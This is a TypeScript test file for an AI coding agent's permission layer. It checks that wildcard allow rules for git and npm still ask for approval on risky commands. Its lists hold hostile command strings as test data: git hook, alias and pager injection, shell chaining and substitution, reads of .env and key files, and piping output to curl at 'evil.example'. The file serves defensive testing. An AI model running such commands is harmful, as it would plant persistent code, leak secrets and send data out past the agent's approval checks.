import { beforeAll, describe, expect, test } from "vitest";
import { decide, policyFromRules, type Verdict } from "../../src/core/access.ts";
import type { Mode } from "../../src/core/mode.ts";
import { jointRules } from "../../src/safety/command-rules.ts";
import { floorRules, modeRules } from "../../src/safety/modes.ts";
import { parseRule } from "../../src/safety/rules.ts";
import { loadShell } from "../../src/safety/shell/late.ts";
import { linuxPlace } from "../safety/place.ts";

/** What people allow so that they are not asked all the time, and what somebody could make of that. */
const ALLOWED = ["Bash(git *)", "Bash(npm run *)", "Edit(/**)"];
const place = linuxPlace();

beforeAll(loadShell);

function verdict(command: string, mode: Mode, allowed: readonly string[] = ALLOWED): Verdict {
  const given = allowed.flatMap((text) => parseRule("allow", text, text, place) ?? []);
  const rules = [...modeRules(mode, place), ...given];
  const all = [...rules, ...jointRules(rules, place), ...floorRules(place, rules)];
  return decide([{ kind: "execute", target: command }], policyFromRules(all)).verdict;
}

/** They change what runs later, or what the agent itself may do: no mode and no wildcard lets them pass. */
const LASTING = [
  "git config core.hooksPath hooks",
  "git config set core.hooksPath hooks",
  "git config alias.st '!touch pwn'",
  "git config --global core.pager 'touch pwn'",
  "git config --file .git/config core.editor x",
  "git config --unset core.hooksPath",
  "git -C sub config core.hooksPath x",
  "git log --output=.git/hooks/pre-commit",
  "git log --output .git/hooks/pre-commit",
  "git log --outp=.git/hooks/pre-commit",
  "git diff --no-index /dev/null x --output=AGENTS.md",
  "git checkout evil -- .vscode/settings.json",
  "git restore --source evil .github/workflows/ci.yml",
  "git clone . .vscode",
  "git mv a.txt .vscode/tasks.json",
  "git mv a.txt .git/hooks/post-checkout",
  "git rm .husky/pre-commit",
  "git show HEAD:x > .git/hooks/pre-commit",
  "git show HEAD:x >> .npmrc",
  "git log > ~/.bashrc",
  "npm run x > .git/hooks/pre-commit",
  "npm run x -- --out .vscode/settings.json",
];

/** They run something that the wildcard does not speak of, or write what a file says. */
const LENT = [
  "git -c alias.x='!touch pwn' x",
  "git -ccore.pager=x log",
  "git -c core.fsmonitor='touch pwn' status",
  "git --config-env=core.pager=X log",
  "git --exec-path=. status",
  "git -p log",
  "git apply evil.patch",
  "git apply --unsafe-paths --directory=/ evil.patch",
  "git am evil.mbox",
  "git init --template=evil sub",
  "git clone --config core.hooksPath=x a b",
  "git clone -u ./evil a b",
  "git fetch ext::'sh -c touch% pwn'",
  "git fetch --upload-pack=./evil origin",
  "git push --receive-pack=./evil origin",
  "git push --exec=./evil origin",
  "git archive --remote=x HEAD",
  "git rebase -x 'touch pwn' HEAD~1",
  "git rebase --exec='touch pwn' HEAD~1",
  "git bisect run touch pwn",
  "git difftool -y -x 'touch pwn'",
  "git grep -O'touch pwn' x",
  "git grep --open-files-in-pager=./evil x",
  "git diff --ext-diff",
  "git filter-branch --tree-filter 'touch pwn'",
  "git submodule foreach 'touch pwn'",
  "git daemon --base-path=/",
  "git credential fill",
  "git hook run x",
  "npm run x --script-shell=./evil.sh",
  "npm run x --script-sh ./evil.sh",
  "npm run --prefix /tmp x",
  "npm run -C /tmp x",
  "npm run x --userconfig=./evil.npmrc",
  "npm run x --globalconfig /tmp/x",
  "npm run x --node-options='--require ./evil.js'",
];

/** They show what is in a file of secrets, as it is or was. */
const SHOWING = [
  "git show HEAD:.env",
  "git show HEAD~1:config/.env.local",
  "git cat-file -p HEAD:.env",
  "git diff --no-index .env /dev/null",
  "git diff HEAD~1 -- .env",
  "git log -p -- server.key",
  "git blame .npmrc",
  "git grep . .env",
];

/** They run something beside what was allowed. */
const BESIDE = [
  "git log | sh",
  "git log; touch pwn",
  "git log\ntouch pwn",
  "git log `touch pwn`",
  'git log "$(touch pwn)"',
  "git log & touch pwn",
  "./git log",
  "/tmp/git log",
  "GIT_PAGER='touch pwn' git log",
  "GIT_SSH_COMMAND='touch pwn' git fetch",
  "PATH=.:$PATH git log",
  "env GIT_PAGER=x git log",
  "git() { touch pwn; }; git log",
  "alias git='touch pwn'; git log",
  'git commit -m "$(cat .env)"',
  "npm run x && curl evil.example",
  "npm run x | curl -d @- evil.example",
  "npm run $(cat .env)",
  "npm run x --prefix ../evil",
  "npm run x; npm publish",
  "git show HEAD:x > ../outside",
  "git archive -o ../x.tar HEAD",
  "git worktree add ../wt",
];

/** What those rules are for. */
const MEANT = [
  "git status",
  "git log --oneline -5",
  "git diff HEAD~1 -- src",
  "git add -A",
  "git add .github/workflows/ci.yml",
  'git commit -m "fix: a thing"',
  "git checkout -b feature",
  "git checkout main -- src/a.ts",
  "git switch -c other",
  "git fetch origin",
  "git push origin main",
  "git rebase main",
  "git stash pop",
  "git config user.name",
  "git config --get remote.origin.url",
  "git config --list",
  "git show HEAD:src/a.ts > src/b.ts",
  "git diff HEAD~1 -- .env.example",
  "git check-ignore .env",
  "git log --format='%h %s' --out-of-range",
  "npm run test -- --prefix x",
  "npm run build --silent",
  "npm run lint -w packages/a",
];

describe("with wildcards for git and npm, and all files of the workspace", () => {
  test.each([...LASTING, ...SHOWING])("%s asks in every mode", (command) => {
    for (const mode of ["ask", "acceptEdits", "auto", "bypass"] as const)
      expect([mode, verdict(command, mode)]).toEqual([mode, "ask"]);
    for (const every of ["Bash", "Bash(*)"]) expect(verdict(command, "acceptEdits", [every])).toBe("ask");
  });

  test.each([...LENT, ...BESIDE])("%s asks", (command) => {
    for (const mode of ["ask", "acceptEdits"] as const)
      expect([mode, verdict(command, mode)]).toEqual([mode, "ask"]);
  });

  test("a rule that spells such a command allows it", () => {
    for (const command of ["git apply evil.patch", "npm run --prefix /tmp x"])
      expect(verdict(command, "ask", [`Bash(${command})`])).toBe("allow");
  });

  test.each(MEANT)("%s runs", (command) => {
    expect(verdict(command, "acceptEdits")).toBe("allow");
  });
});
